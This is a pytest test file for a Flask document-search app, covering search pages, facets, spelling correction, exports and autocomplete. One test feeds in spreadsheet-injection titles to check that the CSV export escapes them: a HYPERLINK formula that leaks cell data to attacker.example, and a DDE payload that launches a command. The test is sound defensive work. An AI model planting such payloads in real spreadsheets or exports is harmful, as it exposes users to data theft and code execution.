import re

from flask import json


def test_home_shows_browse_counts_and_latest(client):
    html = client.get("/").get_data(as_text=True)
    assert "Browse by country" in html
    assert 'href="/search?country=BG"' in html
    assert "Latest additions" in html
    assert "Fundos de resultados" in html


def test_search_page_lists_hits_with_page_links_and_snippets(client):
    html = client.get("/search?q=investors").get_data(as_text=True)
    assert "2 documents for" in html
    assert "Another language version of “Payment by Results in Social Services”" in html
    assert "Payment by Results in Social Services" in html
    assert "<mark>Investors</mark>" in html
    assert re.search(
        r'href="/documents/\w+\?q=investors&amp;page=3&amp;back=q%3Dinvestors#page-text"', html
    )
    assert "#page=3" in html  # the PDF itself opens at the page
    assert re.search(r'Also in:\s*<a href="/documents/\w+\?q=investors" hreflang="bg"', html)
    assert "&lt;script&gt;" in html and "<script>alert" not in html


def test_facets_are_links_that_toggle_and_chips_remove(client):
    html = client.get("/search?country=BG&country=CY").get_data(as_text=True)
    assert "2 documents" in html
    # Removing BG keeps CY; selected values show as chips with a remove link.
    assert 'href="/search?country=CY"' in html
    assert 'aria-label="Remove filter Bulgaria"' in html
    assert "Clear all" in html
    # Adding a value of another facet keeps the country selection (AND across facets).
    assert 'href="/search?country=BG&amp;country=CY&amp;year=2022"' in html


def test_every_state_is_in_the_url(client):
    html = client.get("/search?country=EU&country=PT&sort=title&per_page=1&expand=0").get_data(
        as_text=True
    )
    assert 'rel="next"' in html
    assert re.search(
        r'href="/search\?country=EU&amp;country=PT&amp;sort=title&amp;expand=0&amp;per_page=1&amp;page=2"',
        html,
    )
    page2 = client.get("/search?country=EU&country=PT&sort=title&per_page=1&expand=0&page=2")
    assert page2.status_code == 200 and 'aria-current="page">2<' in page2.get_data(as_text=True)


def test_empty_state_suggests_what_to_try(client):
    html = client.get("/search?q=zzzqqq&country=PT").get_data(as_text=True)
    assert "Nothing found" in html and "No document has the word zzzqqq" in html
    assert "Remove the filters" not in html  # without them, nothing either
    html = client.get("/search?q=investors&country=PT").get_data(as_text=True)
    assert "Remove the filters: 2 documents match without them." in html


def test_did_you_mean_and_any_word_fallback(client):
    html = client.get("/search?q=stakeholdrs&correct=0").get_data(as_text=True)
    assert "Did you mean" in html and "stakeholders" in html
    html = client.get("/search?q=Dublin+Λευκωσία").get_data(as_text=True)
    assert "documents with any of them are shown" in html


def test_a_word_that_finds_nothing_shows_the_results_of_its_correction(client, page_context):
    """The reader sees the documents of the likely word, is told so, and is one click from
    the words as typed, which then stay as typed."""
    data = page_context("/search?q=stakeholdrs")
    assert data["fallback"] == "corrected" and data["total"] > 0
    assert all("q=stakeholders" in hit["url"] for hit in data["hits"])
    assert data["suggestion_url"] == "/search?q=stakeholders"
    assert data["as_typed_url"] == "/search?q=stakeholdrs&correct=0"
    html = client.get("/search?q=stakeholdrs").get_data(as_text=True)
    assert "Showing results for <strong><a" in html and ">stakeholders</a></strong>" in html
    assert "Search instead for <a" in html and "Did you mean" not in html
    assert "for “stakeholders”" in html and "“stakeholdrs”" not in html
    typed = client.get(data["as_typed_url"] + "&format=json").get_json()
    assert typed["total"] == 0 and typed["fallback"] is None
    assert typed["suggestion"] == "stakeholders"


def test_bad_input_gives_a_helpful_400_never_a_500(client):
    for url in [
        "/search?q=*tion",
        "/search?page=abc",
        "/search?per_page=1000",
        "/search?sort=x",
        "/search?mode=some",
        "/search?q=" + "x" * 600,
    ]:
        response = client.get(url)
        assert response.status_code == 400, url
        assert "That did not work" in response.get_data(as_text=True)


def test_json_twin_of_the_search_page(client):
    page = client.get("/search?q=results&country=EU&format=json").get_json()
    api = client.get("/api/search?q=results&country=EU").get_json()
    for key in ("query", "total", "page", "per_page", "hits", "facets", "suggestion"):
        assert page[key] == api[key]


def test_exports_stream_all_results_not_one_page(client):
    csv_text = client.get("/search/export.csv?per_page=1").get_data(as_text=True)
    lines = csv_text.strip().splitlines()
    assert lines[0].lstrip("\ufeff").startswith("id,path,title")
    assert len(lines) == 7
    data = json.loads(
        client.get("/search/export.json?country=EU&country=BG").get_data(as_text=True)
    )
    assert len(data["hits"]) == 3
    assert client.get("/search/export.csv?q=*x").status_code == 400
    assert client.get("/search/export.xml").status_code == 404


def test_autocomplete(client):
    data = client.get("/api/suggest?q=stake").get_json()
    assert any(s["text"] == "stakeholders" for s in data["suggestions"])


def test_csv_export_neutralises_formulas(tmp_path):
    """A title such as =HYPERLINK(…) must reach a spreadsheet as text, not as a formula."""
    import csv
    import io

    from indexer.config import Settings
    from indexer.ingest.run import run_index
    from tests.factories import TEXTS, make_text
    from webapp import create_app

    titles = [
        '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed title",
        "\rCarriage title",
        "Ordinary = title",
    ]
    docs = tmp_path / "docs"
    rows = ["path,title"]
    for n, title in enumerate(titles):
        make_text(docs / f"doc{n}.txt", TEXTS["en"])
        rows.append(f'doc{n}.txt,"{title.replace(chr(34), chr(34) * 2)}"')
    make_text(docs / "manifest.csv", "\n".join(rows) + "\n")
    settings = Settings(home=tmp_path / "home", corpus=docs, workers=1)
    run_index(settings)
    client = create_app(settings).test_client()
    text = client.get("/search/export.csv").get_data(as_text=True).lstrip("\ufeff")
    exported = {row["path"]: row for row in csv.DictReader(io.StringIO(text))}
    assert len(exported) == len(titles)
    for n, title in enumerate(titles):
        cell = exported[f"doc{n}.txt"]["title"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        if title[0] in "=+-@":
            assert cell == "'" + title  # shown as typed, never run
        else:
            assert cell == title.strip()  # (the manifest trims spaces around cells)
    for row in exported.values():  # numbers stay numbers
        assert row["page_count"] == "1" and not row["score"].startswith("'")


def test_csv_cells_with_formula_starts():
    from webapp.export import csv_cell

    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx"):
        assert csv_cell(value) == "'" + value
    assert csv_cell(["-x", "y"]) == "'-x; y"
    assert csv_cell(-3.5) == -3.5 and csv_cell(None) == "" and csv_cell("a=b") == "a=b"


def test_a_search_cut_short_says_so_in_the_readers_language(kb_settings):
    from indexer.search import SearchEngine
    from webapp import create_app

    app = create_app(kb_settings)
    app.extensions["kb_engine"] = SearchEngine(kb_settings, budget=0.0)  # every search overruns
    client = app.test_client()
    page = client.get("/search?q=social~2+innovation~2").get_data(as_text=True)
    assert "stopped early" in page
    data = client.get("/api/search?q=social~2").get_json()
    assert data["partial"] is True and "incomplete" in data["notice"]
    bulgarian = client.get("/search?q=social~2&lang=bg").get_data(as_text=True)
    assert "Търсенето отне твърде дълго" in bulgarian


def test_every_facet_value_is_a_toggle_link_in_order(client, page_context):
    """The sidebar lists each value the page was given, the first eight of a facet and the
    rest folded under "Show more", once each and in the given order."""
    given = page_context("/search")
    html = client.get("/search").get_data(as_text=True)
    sidebar = html[html.index('<aside class="facets"') : html.index("</aside>")]
    for name, values in given["facets"].items():
        if name == "year" or not values:
            continue
        section = sidebar[sidebar.index(f'id="facet-{name}"') :]
        section = section[: section.index("</section>")]
        hrefs = re.findall(r'<a class="fv[^"]*" href="([^"]*)"', section)
        labels = re.findall(r'<span class="label">([^<]*)</span>', section)
        expected = [v["toggle_url"].replace("&", "&amp;") for v in values]
        assert hrefs == expected
        assert len(labels) == len(values)
        assert (f"Show {len(values) - 8} more" in section) == (len(values) > 8)
